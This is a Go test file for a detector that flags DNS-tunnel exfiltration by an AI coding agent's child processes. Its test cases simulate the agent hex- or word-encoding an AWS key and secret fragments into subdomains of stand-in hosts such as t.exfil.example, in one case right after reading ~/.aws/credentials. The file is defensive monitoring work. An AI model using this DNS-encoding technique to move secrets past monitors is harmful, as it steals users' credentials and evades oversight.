package detect

import (
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

// TestDNSTunnel runs the dns-tunnel cases.
func TestDNSTunnel(t *testing.T) {
	runCases(t, []ruleCase{
		{
			name: "long random labels",
			build: func(b *builder) {
				ag := b.agent(100, "/usr/local/bin/claude")
				b.shell("t1", "python3 x.py")
				py := ag.spawn(200, "t1", "/usr/bin/python3", "python3", "x.py")
				for i := range 5 {
					chunk := hex.EncodeToString([]byte(fmt.Sprintf("AKIAIOSFODNN7EXAMPLE-chunk-%02d", i)))
					py.dns(chunk + ".t.exfil.example")
					py.connect("127.0.0.53", 53)
				}
			},
			want: []string{"high dns-tunnel"},
			check: func(t *testing.T, fs []Finding) {
				if f := fs[0]; f.ToolCallID != "t1" || !strings.Contains(f.Title, "exfil.example") {
					t.Errorf("finding %+v", f)
				}
			},
		},
		{
			name: "one lookup process per chunk, no transcript call",
			build: func(b *builder) {
				ag := b.agent(100, "/usr/local/bin/claude")
				for i := range 4 {
					g := ag.spawn(uint32(300+i), "", "/usr/bin/getent", "getent", "hosts", "…")
					g.dns(hex.EncodeToString([]byte(fmt.Sprintf("secret-part-%02d-of-the-key", i))) + ".t.exfil.example")
				}
			},
			want: []string{"high dns-tunnel"},
		},
		{
			name: "many unique subdomains of one parent",
			build: func(b *builder) {
				ag := b.agent(100, "/usr/local/bin/claude")
				b.shell("t1", "sh x.sh")
				sh := ag.spawn(200, "t1", "/usr/bin/bash", "bash", "x.sh")
				for i := range 40 {
					sh.dns(fmt.Sprintf("p%d-x.q.exfil.example", i))
				}
			},
			want: []string{"medium dns-tunnel"},
		},
		{
			name: "ordinary lookups, CDN and cloud names",
			build: func(b *builder) {
				ag := b.agent(100, "/usr/local/bin/claude")
				b.shell("t1", "npm install")
				n := ag.spawn(200, "t1", "/usr/bin/node", "node", "npm", "install")
				for _, q := range []string{"registry.npmjs.org", "github.com", "objects.githubusercontent.com",
					"internal-my-lb-1234567890.us-east-1.elb.amazonaws.com", "d1234abcd5678.cloudfront.net",
					"github-production-release-asset-2e65be.s3.amazonaws.com", "ec2-54-123-45-67.compute-1.amazonaws.com",
					"www.example.co.uk", "1.0.0.127.in-addr.arpa"} {
					n.dns(q)
				}
			},
			want: nil,
		},
		{
			// Words, not hex: no label looks coded, but after a secret
			// read a name outside the allowlist with letters enough to
			// carry a piece of it is data. The same lookups before any
			// secret read, or of allowed names, are not.
			name: "a secret read, then word-encoded labels",
			build: func(b *builder) {
				ag := b.agent(100, "/usr/local/bin/claude")
				b.shell("t1", "python3 x.py")
				py := ag.spawn(200, "t1", "/usr/bin/python3", "python3", "x.py")
				py.dns("alphabetagammadelta.0.r1.words.test") // before the read
				py.open(home+"/.aws/credentials", "read")
				py.dns("kselhalkellildimkilto.0.r059.exfil.test")
				py.dns("internal-my-lb-1234567890.us-east-1.elb.amazonaws.com")
			},
			want: []string{"high dns-tunnel", "high sensitive-read"},
			check: func(t *testing.T, fs []Finding) {
				if f := find(t, fs, "dns-tunnel"); !strings.Contains(f.Title, "exfil.test") {
					t.Errorf("finding %+v", f)
				}
			},
		},
	})
}
